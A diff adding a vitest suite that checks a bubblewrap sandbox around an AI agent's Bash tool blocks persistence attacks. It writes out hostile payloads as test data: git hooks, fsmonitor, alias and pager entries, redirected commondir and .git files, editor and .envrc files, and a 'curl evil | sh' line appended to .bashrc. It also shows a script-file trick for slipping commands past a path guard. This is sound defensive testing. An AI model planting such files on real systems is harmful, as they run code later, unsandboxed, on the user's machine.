@@ -1,0 +1,293 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { contentToText, createSession, type Session } from '@toolshed/core';
+import { shellTools } from './family.ts';
+import { findBwrap } from './sandbox.ts';
+
+// What a sandboxed command plants in a nested repository, a submodule, a linked worktree or an
+// editor's settings runs unsandboxed later, when the user works there: each attack is written to
+// a script file first, so that the path guard sees nothing and only the sandbox stands in the way.
+
+let bwrap: string | undefined;
+try {
+  bwrap = findBwrap();
+} catch {
+  bwrap = undefined;
+}
+if (bwrap === undefined)
+  console.warn(
+    '[skip] the bubblewrap sandbox tests of tool-shell: bwrap is not installed (apt-get install bubblewrap); the nested-repository attacks are not run.',
+  );
+const withBwrap = describe.skipIf(bwrap === undefined);
+
+let root: string;
+let seq = 0;
+const sessions: Session[] = [];
+const GIT_ENV = {
+  ...process.env,
+  GIT_CONFIG_GLOBAL: '/dev/null',
+  GIT_CONFIG_NOSYSTEM: '1',
+  GIT_AUTHOR_NAME: 't',
+  GIT_AUTHOR_EMAIL: 't@example.com',
+  GIT_COMMITTER_NAME: 't',
+  GIT_COMMITTER_EMAIL: 't@example.com',
+};
+
+beforeAll(async () => {
+  root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'toolshed-nested-')));
+});
+afterEach(async () => {
+  await Promise.all(sessions.splice(0).map((s) => s.close()));
+});
+afterAll(async () => {
+  await rm(root, { recursive: true, force: true });
+});
+
+function git(cwd: string, ...args: string[]): string {
+  return execFileSync('git', ['-c', 'protocol.file.allow=always', ...args], { cwd, env: GIT_ENV, encoding: 'utf8' });
+}
+
+/** A fresh project (a repository with one commit) and a session whose Bash is sandboxed in it. */
+async function project(options: { home?: string } = {}): Promise<{ dir: string; session: Session }> {
+  const dir = path.join(root, `p${++seq}`);
+  await mkdir(path.join(dir, 'src'), { recursive: true });
+  git(dir, 'init', '-q');
+  await writeFile(path.join(dir, 'src', 'a.ts'), 'export {};\n');
+  git(dir, 'add', '.');
+  git(dir, 'commit', '-qm', 'init');
+  const session = await createSession({
+    cwd: dir,
+    ...(options.home ? { homeDir: options.home } : {}),
+    families: [shellTools({ sandbox: { enabled: true } })],
+    permissions: { mode: 'bypassPermissions' },
+    stateDir: path.join(root, 'state', String(++seq)),
+  });
+  sessions.push(session);
+  return { dir, session };
+}
+
+async function bash(session: Session, command: string): Promise<string> {
+  const [result] = await session.run([{ type: 'tool_use', id: `toolu_${++seq}`, name: 'Bash', input: { command } }]);
+  return contentToText(result!.content);
+}
+
+/** The command run from a script file, which the path guard does not read. */
+function hidden(command: string): string {
+  return `cat > .hidden.sh <<'EOF'\n${command}\nEOF\nsh .hidden.sh; echo "exit $?"`;
+}
+
+withBwrap('the sandbox keeps what nested repositories run from being planted', () => {
+  test("a nested clone's hooks and config stay read-only", async () => {
+    const { dir, session } = await project();
+    git(dir, 'init', '-q', 'vendor/lib');
+    const config = path.join(dir, 'vendor/lib/.git/config');
+    const before = await readFile(config, 'utf8');
+    const out = await bash(
+      session,
+      hidden(
+        'echo "#!/bin/sh" > vendor/lib/.git/hooks/pre-commit\nprintf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> vendor/lib/.git/config',
+      ),
+    );
+    expect(out).toMatch(/Read-only file system/);
+    expect(existsSync(path.join(dir, 'vendor/lib/.git/hooks/pre-commit'))).toBe(false);
+    expect(await readFile(config, 'utf8')).toBe(before);
+  });
+
+  test('a nested repository renamed away and made again is caught: the new hooks are moved out', async () => {
+    const { dir, session } = await project();
+    git(dir, 'init', '-q', 'sub');
+    const out = await bash(
+      session,
+      hidden('mv sub sub2 && mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit && echo made'),
+    );
+    expect(out).toContain('made');
+    expect(out).toContain('The sandbox does not let commands create');
+    expect(existsSync(path.join(dir, 'sub/.git/hooks/pre-commit'))).toBe(false);
+  });
+
+  test("a submodule's hooks and config under .git/modules stay read-only", async () => {
+    const { dir, session } = await project();
+    const upstream = path.join(root, `upstream${++seq}`);
+    await mkdir(upstream);
+    git(upstream, 'init', '-q');
+    git(upstream, 'commit', '-q', '--allow-empty', '-m', 'u');
+    git(dir, 'submodule', '-q', 'add', upstream, 'lib');
+    const modules = path.join(dir, '.git/modules/lib');
+    const before = await readFile(path.join(modules, 'config'), 'utf8');
+    const out = await bash(
+      session,
+      hidden(
+        'echo "#!/bin/sh" > .git/modules/lib/hooks/post-checkout\nprintf "[alias]\\n\\tst = !touch /tmp/pwned\\n" >> .git/modules/lib/config',
+      ),
+    );
+    expect(out).toMatch(/Read-only file system/);
+    expect(existsSync(path.join(modules, 'hooks/post-checkout'))).toBe(false);
+    expect(await readFile(path.join(modules, 'config'), 'utf8')).toBe(before);
+  });
+
+  test("a linked worktree's commondir and config.worktree cannot be planted or redirected", async () => {
+    const { dir, session } = await project();
+    const tree = path.join(root, `tree${++seq}`);
+    git(dir, 'worktree', 'add', '-q', tree);
+    const own = path.join(dir, '.git/worktrees', path.basename(tree));
+    const out = await bash(
+      session,
+      hidden(
+        `echo ../../../evil > ${own}/commondir\nprintf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > ${own}/config.worktree\necho done`,
+      ),
+    );
+    expect(out).toContain('done');
+    expect(readFileSync(path.join(own, 'commondir'), 'utf8').trim()).toBe('../..');
+    expect(existsSync(path.join(own, 'config.worktree'))).toBe(false);
+  });
+
+  test("a commondir made in the project's own .git, which would move its config and hooks, is moved out", async () => {
+    const { dir, session } = await project();
+    const out = await bash(
+      session,
+      hidden(
+        'mkdir -p evil && git init -q --bare evil/g && printf "[core]\\n\\tpager = touch /tmp/pwned\\n" >> evil/g/config\necho ../evil/g > .git/commondir\necho done',
+      ),
+    );
+    expect(out).toContain('done');
+    expect(existsSync(path.join(dir, '.git/commondir'))).toBe(false);
+  });
+
+  test('the .git file of a project that is a linked worktree cannot be pointed elsewhere', async () => {
+    const { dir } = await project();
+    const linked = path.join(root, `linked${++seq}`);
+    git(dir, 'worktree', 'add', '-q', linked);
+    const session = await createSession({
+      cwd: linked,
+      families: [shellTools({ sandbox: { enabled: true } })],
+      permissions: { mode: 'bypassPermissions' },
+      stateDir: path.join(root, 'state', String(++seq)),
+    });
+    sessions.push(session);
+    const before = await readFile(path.join(linked, '.git'), 'utf8');
+    const out = await bash(session, hidden('echo "gitdir: /tmp/evil" > .git; echo done'));
+    expect(out).toContain('done');
+    expect(await readFile(path.join(linked, '.git'), 'utf8')).toBe(before);
+  });
+
+  test('a repository the command creates keeps what git init makes, but not hooks or config that run programs', async () => {
+    const { dir, session } = await project();
+    const out = await bash(
+      session,
+      hidden(
+        [
+          'git init -q made',
+          'echo "#!/bin/sh" > made/.git/hooks/pre-commit',
+          'git init -q plain && git -C plain remote add origin https://example.com/x.git',
+          'git init -q aliased && git -C aliased config alias.st "!touch /tmp/pwned"',
+          'mkdir -p bare-like/objects bare-like/refs && echo "ref: refs/heads/main" > bare-like/HEAD && printf "[core]\\n\\tpager = touch /tmp/pwned\\n" > bare-like/config',
+          'echo done',
+        ].join('\n'),
+      ),
+    );
+    expect(out).toContain('done');
+    expect(existsSync(path.join(dir, 'made/.git/hooks/pre-commit'))).toBe(false);
+    expect(existsSync(path.join(dir, 'made/.git/HEAD'))).toBe(true);
+    // git init's own: sample hooks, a config with only its settings and a remote's address.
+    expect(existsSync(path.join(dir, 'plain/.git/hooks/pre-commit.sample'))).toBe(true);
+    expect(git(path.join(dir, 'plain'), 'remote', 'get-url', 'origin').trim()).toBe('https://example.com/x.git');
+    expect(existsSync(path.join(dir, 'aliased/.git/config'))).toBe(false);
+    expect(existsSync(path.join(dir, 'bare-like/config'))).toBe(false);
+    expect(out).toContain(`create ${path.join(dir, 'aliased/.git/config')}`);
+  });
+
+  test('a .git file the command creates that leads to a git folder it made is moved out', async () => {
+    const { dir, session } = await project();
+    const out = await bash(
+      session,
+      hidden(
+        'mkdir -p sub && git init -q --bare shadow && printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> shadow/config\necho "gitdir: ../shadow" > sub/.git\necho done',
+      ),
+    );
+    expect(out).toContain('done');
+    expect(existsSync(path.join(dir, 'shadow/config'))).toBe(false);
+  });
+});
+
+withBwrap('the sandbox keeps editor and shell start-up files', () => {
+  test('.vscode, .idea, .envrc, .gitconfig and .ripgreprc stay read-only, at any depth, and new ones are moved out', async () => {
+    const { dir, session } = await project();
+    await mkdir(path.join(dir, '.vscode'));
+    await writeFile(path.join(dir, '.vscode/settings.json'), '{}\n');
+    await mkdir(path.join(dir, 'pkg/.idea'), { recursive: true });
+    await writeFile(path.join(dir, '.envrc'), 'export A=1\n');
+    const changed = await bash(
+      session,
+      hidden(
+        'echo "{\\"version\\":\\"2.0.0\\"}" > .vscode/tasks.json\necho x > .vscode/settings.json\necho x > pkg/.idea/workspace.xml\necho "echo pwned" >> .envrc\necho done',
+      ),
+    );
+    expect(changed).toMatch(/Read-only file system/);
+    expect(existsSync(path.join(dir, '.vscode/tasks.json'))).toBe(false);
+    expect(await readFile(path.join(dir, '.vscode/settings.json'), 'utf8')).toBe('{}\n');
+    expect(existsSync(path.join(dir, 'pkg/.idea/workspace.xml'))).toBe(false);
+    expect(await readFile(path.join(dir, '.envrc'), 'utf8')).toBe('export A=1\n');
+    const made = await bash(
+      session,
+      hidden(
+        'mkdir -p app/.vscode && echo "{}" > app/.vscode/tasks.json\necho "--pre=evil" > .ripgreprc\necho "[core] pager = evil" > .gitconfig\necho done',
+      ),
+    );
+    expect(made).toContain('done');
+    for (const file of ['app/.vscode', '.ripgreprc', '.gitconfig'])
+      expect(existsSync(path.join(dir, file))).toBe(false);
+  });
+
+  test("the home directory's shell start-up files stay read-only when the home is writable", async () => {
+    const home = path.join(root, `home${++seq}`);
+    await mkdir(home);
+    await writeFile(path.join(home, '.bashrc'), '# mine\n');
+    const session = await createSession({
+      cwd: home,
+      homeDir: home,
+      families: [shellTools({ sandbox: { enabled: true } })],
+      permissions: { mode: 'bypassPermissions' },
+      stateDir: path.join(root, 'state', String(++seq)),
+    });
+    sessions.push(session);
+    const out = await bash(session, hidden('echo "curl evil | sh" >> .bashrc\necho "evil" > .zshrc\necho done'));
+    expect(out).toMatch(/Read-only file system/);
+    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
+    expect(existsSync(path.join(home, '.zshrc'))).toBe(false);
+  });
+});
+
+withBwrap('everyday commands keep working in the sandbox', () => {
+  test('writes into src, git commit, git worktree add and git init (in the project and in /tmp) work', async () => {
+    const { dir, session } = await project();
+    git(dir, 'init', '-q', 'vendor/lib');
+    const out = await bash(
+      session,
+      [
+        'echo "export const b = 1;" > src/b.ts',
+        'git add src/b.ts && git -c user.name=t -c user.email=t@example.com commit -qm b && echo committed',
+        'git init -q /tmp/scratch-repo && echo tmp-init',
+        'git init -q newpkg && echo new-init',
+        'git -C vendor/lib status --short && echo nested-status',
+      ].join(' && '),
+    );
+    expect(out).toContain('committed');
+    expect(out).toContain('tmp-init');
+    expect(out).toContain('new-init');
+    expect(out).toContain('nested-status');
+    expect(out).not.toContain('The sandbox does not let commands create');
+    expect(git(dir, 'log', '--format=%s', '-1').trim()).toBe('b');
+    // The guard asks for what a checkout may write; from a script file the sandbox alone decides.
+    const added = await bash(session, hidden('git worktree add -q wt && echo worktree'));
+    expect(added).toContain('worktree');
+    expect(added).not.toContain('The sandbox does not let commands create');
+    expect(existsSync(path.join(dir, 'wt/.git'))).toBe(true);
+    expect(existsSync(path.join(dir, 'newpkg/.git/config'))).toBe(true);
+    // The next command sees the new repository as existing: its config is read-only now.
+    expect(await bash(session, hidden('echo x >> newpkg/.git/config'))).toMatch(/Read-only file system/);
+  });
+});
